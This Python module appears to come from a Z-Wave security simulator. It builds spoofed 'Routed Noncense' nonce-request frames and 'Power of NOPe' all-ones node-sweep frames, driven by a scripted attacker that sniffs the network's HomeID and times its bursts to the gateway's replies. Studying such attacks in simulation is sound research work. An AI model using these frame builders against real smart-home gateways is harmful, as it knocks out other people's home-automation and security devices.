"""Forged-frame builders and the scripted attacker.

Routed Noncense: Nonce Get (S0) or S2 Nonce Get frames whose source and
destination are both the gateway address, which sends the gateway routing
Nonce Reports to itself. Power of NOPe: a Find Nodes In Range frame with an
all-ones node mask, which makes the gateway sweep every address.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Iterable, Iterator, Optional, Union

from .capture import CaptureRecord
from .codec import (
    DEFAULT_IDS,
    GATEWAY_ID,
    MAX_MASK_LEN,
    CommandComplete,
    CommandIds,
    FindNodesInRange,
    Frame,
    FrameControl,
    FrameError,
    NonceGet,
    S2NonceGet,
    decode_frame,
)

MS = 1000
FULL_MASK = b"\xff" * MAX_MASK_LEN


class AttackKind(enum.Enum):
    ROUTED_NONCENSE_S0 = "routed-noncense-s0"
    ROUTED_NONCENSE_S2 = "routed-noncense-s2"
    POWER_OF_NOPE = "power-of-nope"

    @property
    def default_interval_ms(self) -> int:
        return 110_000 if self is AttackKind.POWER_OF_NOPE else 100


class Variant(enum.Enum):
    S0 = "s0"
    S2 = "s2"


class NoValidFrame(LookupError):
    pass


@dataclass(frozen=True)
class AttackPlan:
    kind: AttackKind
    count: Optional[int] = None  # None: keep going until the run ends
    interval_ms: Optional[int] = None
    use_command_complete_timing: bool = False
    spoof_src: int = GATEWAY_ID
    target_dst: int = GATEWAY_ID
    start_ms: int = 0

    def __post_init__(self):
        if self.count is not None and self.count < 0:
            raise ValueError("count must not be negative")
        if self.interval_ms is not None and self.interval_ms <= 0:
            raise ValueError("interval_ms must be positive")
        if self.start_ms < 0:
            raise ValueError("start_ms must not be negative")
        if self.use_command_complete_timing and self.kind is not AttackKind.POWER_OF_NOPE:
            raise ValueError("command-complete timing only applies to power-of-nope")
        for name in ("spoof_src", "target_dst"):
            if not 0 <= getattr(self, name) <= 0xFF:
                raise ValueError(f"{name} must be a node byte")

    @property
    def interval_us(self) -> int:
        interval = self.interval_ms if self.interval_ms is not None else self.kind.default_interval_ms
        return interval * MS


def sniff_home_id(
    stream: Iterable[Union[bytes, CaptureRecord]], ids: CommandIds = DEFAULT_IDS
) -> int:
    """HomeID of the first frame in ``stream`` that decodes cleanly."""
    for item in stream:
        raw = item.raw if isinstance(item, CaptureRecord) else item
        try:
            return decode_frame(raw, ids).home_id
        except FrameError:
            continue
    raise NoValidFrame("no decodable frame observed")


def build_routed_noncense_frame(
    home_id: int,
    variant: Union[Variant, str] = Variant.S0,
    seq: int = 0,
    src: int = GATEWAY_ID,
    dst: int = GATEWAY_ID,
) -> Frame:
    variant = Variant(variant)
    command = NonceGet() if variant is Variant.S0 else S2NonceGet(seq & 0xFF)
    return Frame(home_id, src, dst, command, FrameControl(ack_requested=True))


def build_power_of_nope_frame(
    home_id: int, src: int = GATEWAY_ID, dst: int = GATEWAY_ID
) -> Frame:
    return Frame(home_id, src, dst, FindNodesInRange(FULL_MASK), FrameControl(ack_requested=True))


class Attacker:
    """Deterministic attacker driven by the simulator clock.

    It stays silent until it has sniffed a HomeID, then follows its plan.
    With command-complete timing it fires the next Power of NOPe frame the
    moment it overhears the gateway's Command Complete.
    """

    def __init__(self, plan: AttackPlan, ids: CommandIds = DEFAULT_IDS, gateway_id: int = GATEWAY_ID):
        self.plan = plan
        self.ids = ids
        self.gateway_id = gateway_id
        self.home_id: Optional[int] = None
        self.sent = 0
        self.s2_seq = 0
        self.next_at: Optional[int] = None
        self._awaiting_complete = False

    @property
    def done(self) -> bool:
        return self.plan.count is not None and self.sent >= self.plan.count

    def observe(self, raw: bytes, now: int) -> Optional[int]:
        """Feed one overheard frame. Returns a time at which :meth:`fire`
        should be called if this observation scheduled a transmission."""
        if self.done:
            return None
        if self.home_id is None:
            try:
                self.home_id = sniff_home_id([raw], self.ids)
            except NoValidFrame:
                return None
            self.next_at = max(now, self.plan.start_ms * MS)
            return self.next_at
        if self._awaiting_complete:
            try:
                frame = decode_frame(raw, self.ids)
            except FrameError:
                return None
            if (
                isinstance(frame.command, CommandComplete)
                and frame.src == self.gateway_id
                and frame.home_id == self.home_id
            ):
                self._awaiting_complete = False
                self.next_at = now
                return now
        return None

    def fire(self, now: int) -> Optional[Frame]:
        """The frame to transmit at ``now``, or None if nothing is due."""
        if self.home_id is None or self.done or self.next_at is None or now < self.next_at:
            return None
        frame = self._build()
        self.sent += 1
        if self.done:
            self.next_at = None
        elif self.plan.use_command_complete_timing:
            self.next_at = None
            self._awaiting_complete = True
        else:
            self.next_at = now + self.plan.interval_us
        return frame

    def _build(self) -> Frame:
        plan = self.plan
        if plan.kind is AttackKind.POWER_OF_NOPE:
            return build_power_of_nope_frame(self.home_id, plan.spoof_src, plan.target_dst)
        if plan.kind is AttackKind.ROUTED_NONCENSE_S2:
            frame = build_routed_noncense_frame(
                self.home_id, Variant.S2, self.s2_seq, plan.spoof_src, plan.target_dst
            )
            self.s2_seq = (self.s2_seq + 1) & 0xFF
            return frame
        return build_routed_noncense_frame(
            self.home_id, Variant.S0, 0, plan.spoof_src, plan.target_dst
        )


def attack_schedule(plan: AttackPlan, home_id: int, start_us: int = 0) -> Iterator[tuple[int, Frame]]:
    """Timestamped attack frames at the plan's fixed interval, without a
    simulation. Command-complete timing has nothing to wait for here, so the
    plain interval is used. Unbounded plans yield forever."""
    attacker = Attacker(
        AttackPlan(plan.kind, plan.count, plan.interval_ms, False, plan.spoof_src, plan.target_dst)
    )
    attacker.home_id = home_id
    attacker.next_at = start_us
    while not attacker.done:
        t = attacker.next_at
        yield t, attacker.fire(t)
